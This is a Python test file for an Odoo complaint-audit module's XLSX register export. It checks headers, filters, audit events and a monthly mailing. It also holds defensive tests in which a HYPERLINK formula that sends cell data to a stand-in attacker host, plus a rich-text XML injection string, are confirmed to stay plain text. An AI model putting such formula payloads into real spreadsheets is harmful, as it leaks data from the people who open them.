# Copyright 2026 Complaints Team
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import hashlib
import io
import zipfile
from datetime import datetime

import openpyxl
import xlsxwriter
from freezegun import freeze_time

from odoo import Command
from odoo.tests import tagged

from ..report.complaint_register_xlsx import _RowWriter
from .common import ComplaintAuditCommon

FORMULA_TEXT = '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click me")'


@tagged("post_install", "-at_install")
class TestRegisterXlsx(ComplaintAuditCommon):
    """R42: the complaint register, for a period and a filter, as XLSX."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Export = cls.env["complaint.register.export"]
        with freeze_time("2026-03-02 09:00:00"):
            cls.closed = cls._walk_to(
                cls._create_complaint(subject=FORMULA_TEXT), "closed"
            )
        cls.env["complaint.remedy"].create(
            {
                "complaint_id": cls.closed.id,
                "remedy_type": "refund",
                "description": "Refund of the blender",
                "amount": 120.0,
            }
        )
        with freeze_time("2026-03-10 10:00:00"):
            cls.anonymous = cls._create_complaint(
                partner_id=False,
                sale_order_id=False,
                sale_line_id=False,
                invoice_id=False,
                product_id=cls.product_2.id,
                channel="in_person",
                subject="Rude staff at the counter",
            )
        with freeze_time("2026-04-15 10:00:00"):
            cls.april = cls._create_complaint(subject="Late delivery")

    def _export(self, user=None, **values):
        export = self.Export.with_user(user or self.manager).create(
            dict({"date_from": "2026-03-01", "date_to": "2026-03-31"}, **values)
        )
        return export, export._export_register()

    def _sheet(self, content):
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        return workbook.active

    def _rows(self, sheet):
        header = [cell.value for cell in sheet[1]]
        return header, [
            dict(zip(header, (cell.value for cell in row), strict=True))
            for row in sheet.iter_rows(min_row=2)
        ]

    def test_header_and_rows(self):
        """R42: every register field, one row per complaint of the period, in order
        of reception, with the right values."""
        export, content = self._export(
            domain=repr([("company_id", "=", self.company.id)])
        )
        sheet = self._sheet(content)
        header, rows = self._rows(sheet)
        self.assertEqual(
            header,
            [
                "Reference",
                "Subject",
                "Company",
                "Received On",
                "Acknowledged On",
                "Assessed On",
                "Investigation Started On",
                "Decided On",
                "Decision Sent On",
                "Response On",
                "Closed On",
                "Last Reopened On",
                "Channel",
                "Complainant",
                "Sales Order",
                "Product",
                "Invoice",
                "Category",
                "Severity",
                "Owner",
                "Team",
                "Status",
                "Acknowledge By",
                "Acknowledged in Time",
                "Respond By",
                "Responded in Time",
                "Close By",
                "Closed in Time",
                "Outcome",
                "Complainant's Response",
                "Close Reason",
                "Remedies",
                "Remedy Value",
                "Escalation Level",
                "Appeal Level",
                "Reopened",
                "Corrective Actions",
            ],
        )
        self.assertEqual(
            [row["Reference"] for row in rows], [self.closed.name, self.anonymous.name]
        )
        closed, anonymous = rows
        self.assertEqual(closed["Complainant"], "Acme Buyers")
        self.assertEqual(closed["Received On"], datetime(2026, 3, 2, 9, 0))
        self.assertEqual(closed["Closed On"], datetime(2026, 3, 2, 9, 0))
        self.assertEqual(closed["Channel"], "Phone")
        self.assertEqual(closed["Sales Order"], self.order.name)
        self.assertEqual(closed["Invoice"], self.invoice.name)
        self.assertEqual(closed["Product"], self.product.display_name)
        self.assertEqual(closed["Category"], "Product Quality")
        self.assertEqual(closed["Severity"], "Low")
        self.assertEqual(closed["Owner"], "Ada Handler")
        self.assertEqual(closed["Team"], "Team A")
        self.assertEqual(closed["Status"], "Closed")
        self.assertEqual(closed["Outcome"], "Upheld")
        self.assertEqual(closed["Complainant's Response"], "Accepted")
        self.assertEqual(closed["Acknowledged in Time"], "Yes")
        self.assertEqual(closed["Closed in Time"], "Yes")
        self.assertEqual(closed["Remedies"], "Refund (Refund of the blender)")
        self.assertEqual(closed["Remedy Value"], 120.0)
        self.assertEqual(closed["Appeal Level"], 1)
        self.assertEqual(closed["Reopened"], 0)
        self.assertEqual(anonymous["Complainant"], "Anonymous")
        self.assertEqual(anonymous["Channel"], "In Person")
        self.assertEqual(anonymous["Status"], "New")
        self.assertIsNone(anonymous["Closed On"])
        self.assertIsNone(anonymous["Sales Order"])
        # frozen header and autofilter over the rows
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertEqual(sheet.auto_filter.ref, "A1:AK3")

    def test_formula_text_stays_text(self):
        """A complaint text that looks like a formula or a link is written as text:
        never a live formula in the auditor's spreadsheet."""
        _export, content = self._export(scope="selected", complaint_ids=self.closed.ids)
        sheet = self._sheet(content)
        header, _rows = self._rows(sheet)
        cell = sheet.cell(row=2, column=header.index("Subject") + 1)
        self.assertEqual(cell.value, FORMULA_TEXT)
        self.assertEqual(cell.data_type, "s")
        self.assertFalse(sheet._hyperlinks)

    def test_filter_and_selection(self):
        """The list's filter (the active domain) or its selection, within the
        period; the user's record rules apply."""
        export = (
            self.Export.with_user(self.manager)
            .with_context(
                active_model="complaint.complaint",
                active_ids=[self.anonymous.id],
                active_domain=[("subject", "=", "Rude staff at the counter")],
            )
            .create({})
        )
        # everything the filter shows is selected: the filter is kept
        self.assertEqual(export.scope, "filter")
        self.assertEqual(export._search_complaints(), self.anonymous)
        export.write({"scope": "selected", "complaint_ids": [Command.set([])]})
        self.assertFalse(export._search_complaints())
        whole = self.Export.with_user(self.manager).create({})
        self.assertEqual(
            whole._search_complaints() & (self.closed | self.anonymous | self.april),
            self.closed | self.anonymous | self.april,
        )
        # team B's handler sees none of team A's complaints
        export_b = self.Export.with_user(self.user_b).create({})
        self.assertFalse(export_b._search_complaints() & self.closed)

    def test_export_is_an_audit_event(self):
        """Each export is one event of the trail, with the file's SHA-256."""
        before = self.Event.search_count([("event_type", "=", "register_export")])
        _export, content = self._export()
        events = self.Event.search(
            [("event_type", "=", "register_export")], order="id desc"
        )
        self.assertEqual(len(events) - before, 1)
        self.assertEqual(events[0].ref, hashlib.sha256(content).hexdigest())
        self.assertEqual(events[0].complaint_id, self.closed)
        self.assertIn("2 complaints", events[0].note)
        self.assertEqual(events[0].user_id, self.manager)

    def test_print_menu_action(self):
        """The Print menu of the list opens the wizard, whose button downloads the
        XLSX report."""
        action = self.env.ref("complaint_audit.complaint_register_export_action")
        self.assertEqual(action.binding_model_id.model, "complaint.complaint")
        self.assertEqual(action.binding_type, "report")
        export = self.Export.with_user(self.user_a).create({})
        result = export.action_export()
        self.assertEqual(result["report_type"], "xlsx")
        self.assertEqual(result["report_name"], "complaint_audit.register_xlsx")

    def test_monthly_register_once(self):
        """The monthly job mails the previous month's register to the managers,
        once: a second run finds the month done."""
        cron = self.env.ref("complaint_audit.ir_cron_complaint_monthly_register")
        Mail = self.env["mail.mail"]
        mails_before = Mail.search([])
        with freeze_time("2026-04-01 06:00:00"):
            cron.method_direct_trigger()
            mails = Mail.search([]) - mails_before
            self.assertTrue(mails)
            main_mail = mails.filtered(
                lambda m: self.manager.partner_id in m.recipient_ids
                and self.company.name in m.subject
            )
            self.assertEqual(len(main_mail), 1)
            self.assertIn("2026-03", main_mail.subject)
            self.assertEqual(len(main_mail.attachment_ids), 1)
            sheet = self._sheet(main_mail.attachment_ids.raw)
            _header, rows = self._rows(sheet)
            self.assertEqual(
                [row["Reference"] for row in rows],
                [self.closed.name, self.anonymous.name],
            )
            self.assertEqual(
                self.company.complaint_register_month.isoformat(), "2026-03-01"
            )
            cron.method_direct_trigger()
            again = Mail.search([]) - mails_before - mails
            self.assertFalse(again, again.mapped("subject"))


# Texts that xlsxwriter escapes in its own ways in an inline string.
TRICKY_TEXTS = [
    "  leading spaces",
    "trailing space ",
    "a & b <c> \"quoted\" 'single'",
    "looks escaped: _x0041_ and _X00ff_",
    "control \x01 and \x1f characters, tab\tand\nnew line",
    "non-characters \ufffe \uffff",
    "x" * 40000,
    FORMULA_TEXT,
    "Ünïcödé — ✓",
]


@tagged("post_install", "-at_install")
class TestRegisterRowWriter(ComplaintAuditCommon):
    """The register writes its rows as one XML string per chunk: the cells must be
    the very ones xlsxwriter's own ``write_string`` / ``write_number`` /
    ``write_datetime`` produce."""

    def _sheet_xml(self, fast, rows, kinds):
        report = self.env["report.complaint_audit.register_xlsx"]
        buffer = io.BytesIO()
        workbook = xlsxwriter.Workbook(buffer, report.get_workbook_options())
        formats = report._register_formats(workbook)
        sheet = workbook.add_worksheet("Register")
        for col, kind in enumerate(kinds):
            sheet.set_column(col, col, 12, formats.get(kind))
            sheet.write_string(0, col, f"H{col}", formats["header"])
        writer = _RowWriter(sheet, kinds, formats)
        writer.fast = fast
        writer.add_rows(1, rows[:2])
        writer.add_rows(3, rows[2:])
        workbook.close()
        with zipfile.ZipFile(buffer) as archive:
            return archive.read("xl/worksheets/sheet1.xml"), buffer.getvalue()

    def test_same_xml_as_xlsxwriter(self):
        kinds = ["text", "datetime", "amount", "integer", "text"]
        moment = datetime(2026, 3, 2, 9, 30, 15)
        rows = [
            [text, moment, 120.5, index, None]
            for index, text in enumerate(TRICKY_TEXTS)
        ]
        rows.append(["", None, 0.0, 0, False])
        fast, content = self._sheet_xml(True, rows, kinds)
        api, _content = self._sheet_xml(False, rows, kinds)
        self.assertEqual(fast, api)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        self.assertEqual(sheet.cell(row=2, column=1).value, TRICKY_TEXTS[0])
        self.assertEqual(sheet.cell(row=8, column=1).value, "x" * 32767)
        self.assertEqual(sheet.cell(row=2, column=2).value, moment)
        self.assertEqual(sheet.cell(row=2, column=2).number_format, "yyyy-mm-dd hh:mm")
        self.assertEqual(sheet.cell(row=11, column=3).value, 0)

    def test_rich_text_markup_stays_text(self):
        """xlsxwriter writes a text shaped like rich-text XML (``<r>…</r>``)
        unescaped into the sheet; the register escapes it: a complaint's text
        cannot inject markup into the auditor's file."""
        markup = "<r><t>injected</t></r><is><t>x</t></is></r>"
        text = f"<r>{markup}</r>"
        _xml, content = self._sheet_xml(True, [[text]], ["text"])
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        self.assertEqual(sheet.cell(row=2, column=1).value, text)
